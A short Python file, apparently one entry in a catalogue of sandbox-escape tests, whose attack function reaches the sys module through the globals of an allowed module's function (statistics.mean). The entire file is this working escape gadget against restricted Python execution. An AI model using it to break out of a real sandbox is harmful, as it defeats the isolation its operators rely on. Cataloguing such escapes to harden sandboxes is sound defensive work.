"""Class: module gadget. Source: own find. Escape: a plain function of an allowed module has globals."""

import statistics


def attack(model, tokenizer, address):
    return statistics.mean.__globals__["sys"]
